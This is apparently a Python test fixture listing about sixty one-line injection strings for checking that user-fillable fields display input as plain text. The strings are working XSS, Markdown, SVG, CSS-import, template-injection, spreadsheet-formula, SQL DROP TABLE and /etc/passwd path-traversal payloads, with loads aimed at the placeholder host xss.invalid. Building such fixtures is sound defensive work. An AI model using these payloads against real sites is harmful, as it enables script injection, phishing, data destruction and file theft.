"""Texts that try to run, to load, or to be obeyed: for every field that a person or a file can fill in.

Whatever shows one of them shows it as text. What runs sets `window.__xss`; what loads asks HOST, which is nobody.
"""

HOST = "xss.invalid"

XSS = (
    # tags and event handlers
    "<script>window.__xss=1</script>",
    "<ScRiPt >window.__xss=1</ScRiPt >",
    f'<script src="https://{HOST}/x.js"></script>',
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</style></script><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script><!--",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<IMG SRC=x ONERROR=\"alert('xss')\">",
    f'<img src="https://{HOST}/beacon.png">',
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    f'<object data="https://{HOST}/x.swf"></object>',
    "<embed src=javascript:window.__xss=1>",
    f'<base href="https://{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f'<form action="https://{HOST}/"><button>Sign in again</button></form>',
    f'<link rel=stylesheet href="https://{HOST}/x.css">',
    '" onmouseover="window.__xss=1" x="',
    # links, Markdown, data
    '<a href="javascript:window.__xss=1">x</a>',
    "[x](javascript:window.__xss=1)",
    "[x](JaVaScRiPt&colon;window.__xss=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    f"![x](https://{HOST}/beacon.png)",
    f"[x]: https://{HOST}/ [x]",
    f"<https://{HOST}/> https://{HOST}/ www.{HOST} a@{HOST}",
    "# heading <!-- --> **bold** _x_ `code` ~~x~~ | a | b | - [ ] x",
    # SVG, MathML, CSS
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>",
    f'<svg><image href="https://{HOST}/x.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    f"<style>@import url(https://{HOST}/x.css); * {{background: url(https://{HOST}/y.png)}}</style>",
    f"<div style=\"background:url('https://{HOST}/z.png'); position:fixed; inset:0\">x</div>",
    # Unicode
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u202e<script>window.__xss=1</script>\u202c",
    "<scr\u200bipt>window.__xss=1</scr\u200bipt>",
    "<\u0131mg src=x onerror=window.__xss=1>",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    # what Streamlit, a template or a spreadsheet would obey
    ":red[loud] :blue-background[x] :small[x] :rainbow[x]",
    ":material/home: :streamlit: :smile: ->",
    r"$\href{javascript:window.__xss=1}{x}$ $$\unicode{0}$$ \(x\) \[x\]",
    "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} <%= 1 %> #{1} {0.__class__}",
    "%(name)s %s {} {item.__class__.__init__.__globals__}",
    '=HYPERLINK("https://xss.invalid/";"x") +1 -1 @SUM(A1) |cmd',
    "'; DROP TABLE accounts; --",
    "../../../etc/passwd\x00.csv",
)
"""At least forty; each is a text of one line."""
